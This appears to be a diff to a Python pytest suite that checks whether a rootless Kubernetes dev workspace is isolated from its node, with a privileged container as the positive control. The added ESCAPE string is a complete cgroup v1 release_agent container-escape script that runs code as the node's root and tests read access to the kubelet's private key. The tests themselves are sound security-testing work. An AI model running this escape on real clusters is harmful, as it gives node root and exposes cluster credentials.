@@ -3,9 +3,10 @@
 carol's `dev` workspace (site.yml, the session fixture `converged`) runs dockerd in a pod with `hostUsers: false`. Read
 from the node: its container's root is an unprivileged uid range there. Inside it, as root with dockerd's
 capabilities: the node's disk, where the kubelet's credentials and PostgreSQL's data live, has no device node, none can
-be made, and a file the node's root owns in the workspace's own volume cannot be written. The positive control is a
-privileged container of the same image on the same node (what coderstack_docker_mode privileged runs): there the same
-probes reach the node's disk and the kubelet's key.
+be made, no cgroup hierarchy can be mounted to run a program as the node's root, and node-wide kernel settings refuse
+it. The positive control is a privileged container of the same image on the
+same node (what coderstack_docker_mode privileged runs): there the same probes find the disk's device and read the
+kubelet's private key through the node's root.
 """
 
 from __future__ import annotations
@@ -106,36 +107,46 @@ def test_root_in_the_workspace_is_an_unprivileged_uid_on_the_node(workspace_pod,
     assert sh(WS_NS, workspace_pod, "cat /proc/self/uid_map").stdout.split() == ["0", str(outside), "65536"]
 
 
-def test_the_nodes_disk_is_out_of_reach_of_workspace_root(workspace_pod, privileged_pod):
+# Root on the node from a container, the classic way on cgroup v1 (this host): mount a cgroup hierarchy, point its
+# release_agent at a script in the container's own layer (its path on the node from the overlay's upperdir) and let
+# the kernel run it, as the node's root, when the cgroup empties. The script only checks that the kubelet's private key
+# is readable (it is never printed); the hierarchy's release_agent is put back and the cgroup removed.
+ESCAPE = """
+d=/tmp/cs-cgroup; mkdir -p $d; mount -t cgroup -o pids cgroup $d 2>/dev/null || exit 0
+up=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo | head -n1)
+old=$(cat $d/release_agent)
+printf '#!/bin/sh\\ngrep -q "PRIVATE KEY" %s && touch %s/kubelet-key-read\\n' "{key}" "$up" >/cs-agent
+chmod +x /cs-agent; mkdir -p $d/cs-escape; echo 1 >$d/cs-escape/notify_on_release; echo "$up/cs-agent" >$d/release_agent
+sh -c "echo \\$\\$ >$d/cs-escape/cgroup.procs"; sleep 1
+test -e /kubelet-key-read && echo kubelet-key
+echo "$old" >$d/release_agent; rmdir $d/cs-escape; umount $d; rm -f /cs-agent /kubelet-key-read
+"""
+
+
+def test_the_nodes_credentials_are_out_of_reach_of_workspace_root(workspace_pod, privileged_pod):
     name, major, minor = root_device()
     probe = (
         f"test -b /dev/{name} && echo device; mknod /tmp/disk b {major} {minor} 2>/dev/null && echo mknod;"
-        f" mkdir -p /mnt/node && mount -o ro /dev/{name} /mnt/node 2>/dev/null"
-        f" && test -r /mnt/node{KUBELET_KEY} && echo kubelet-key; true"
+        + ESCAPE.format(key=KUBELET_KEY)
     )
-    # the workspace: no device node of the node's disk, none can be made, nothing mounted from it
+    # the workspace: no device node of the node's disk, none can be made, no cgroup hierarchy to mount
     assert sh(WS_NS, workspace_pod, probe).stdout.split() == []
-    # control: the same probe as root in a privileged container reaches the kubelet's credentials
+    # control: the same probe as root in a privileged container has the disk's device and reads the kubelet's key
     ns, pod = privileged_pod
     out = sh(ns, pod, probe).stdout.split()
     assert "device" in out and "kubelet-key" in out, out
 
 
-def test_workspace_root_cannot_write_what_the_nodes_root_owns(workspace_pod, privileged_pod, kube):
-    """A directory of the node's root, placed in the workspace's own docker volume: root in the pod cannot write it."""
-    from kubernetes import client
-
-    pvc = client.CoreV1Api(kube).read_namespaced_persistent_volume_claim(f"{POD}-docker", WS_NS)
-    pv = client.CoreV1Api(kube).read_persistent_volume(pvc.spec.volume_name)
-    host_dir = pv.spec.host_path.path if pv.spec.host_path else pv.spec.local.path
-    owned = os.path.join(host_dir, f"node-root-{uuid.uuid4().hex[:6]}")
-    os.mkdir(owned, 0o755)  # root:root on the node
-    try:
-        name = os.path.basename(owned)
-        denied = sh(WS_NS, workspace_pod, f"touch /var/lib/docker/{name}/x")
-        assert denied.returncode != 0 and "denied" in denied.stderr.lower(), denied
-        # control: the pod's root writes its own files in the same volume
-        mine = sh(WS_NS, workspace_pod, f"touch /var/lib/docker/{name}-mine && rm /var/lib/docker/{name}-mine")
-        assert mine.returncode == 0, mine.stderr
-    finally:
-        os.rmdir(owned)
+def test_the_nodes_kernel_settings_are_out_of_reach_of_workspace_root(workspace_pod, privileged_pod):
+    """A node-wide kernel setting (vm.drop_caches: write-only, dropping clean caches changes nothing that persists)
+    takes CAP_SYS_ADMIN in the node's own user namespace: the workspace's root, with SYS_ADMIN in its namespace only,
+    is refused; root in a privileged container may."""
+    probe = "echo 1 >/proc/sys/vm/drop_caches 2>/dev/null && echo sysctl; true"
+    assert sh(WS_NS, workspace_pod, probe).stdout.split() == []
+    # the workspace's root does hold SYS_ADMIN in its own namespace: it mounts a tmpfs there
+    own = sh(
+        WS_NS, workspace_pod, "mkdir -p /tmp/cs-own && mount -t tmpfs none /tmp/cs-own && umount /tmp/cs-own && echo ok"
+    )
+    assert own.stdout.split() == ["ok"], own.stderr
+    ns, pod = privileged_pod
+    assert sh(ns, pod, probe).stdout.split() == ["sysctl"]
